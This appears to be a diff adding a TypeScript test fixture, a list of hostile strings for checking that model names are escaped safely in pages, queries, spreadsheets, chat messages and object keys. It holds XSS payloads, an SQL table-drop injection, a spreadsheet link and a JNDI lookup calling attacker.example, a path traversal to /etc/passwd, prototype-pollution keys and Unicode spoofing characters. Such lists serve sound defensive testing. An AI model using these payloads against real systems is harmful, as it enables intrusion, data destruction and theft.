@@ -1,0 +1,20 @@
+/** Names that hurt a reader who puts them into a page, a message, a query, a spreadsheet or an object's keys. */
+export const HOSTILE_NAMES: readonly string[] = [
+  '<script>alert("model")</script>',
+  '<img src=x onerror=alert(1)>',
+  '"><svg/onload=alert(1)>',
+  '</td></tr></table><h1>gone</h1>',
+  "'; DROP TABLE usage_snapshots; --",
+  '=HYPERLINK("http://attacker.example","gpt-4o")',
+  '@everyone <!channel> [gpt-4o](http://attacker.example)',
+  '*bold* _italic_ `code` ~strike~ <@U012345>',
+  '\u202Egnihtemos esle\u202C \u2067rtl\u2069',
+  'gpt\u200B-4o\uFEFF-2024-08-06',
+  'line\r\nbreak\ttab\u0007bell\u0000nul',
+  '__proto__',
+  'constructor',
+  '\u{1F680}'.repeat(20),
+  '\u0024{jndi:ldap://attacker.example/a}',
+  '../../../../etc/passwd',
+  'x'.repeat(5000),
+]
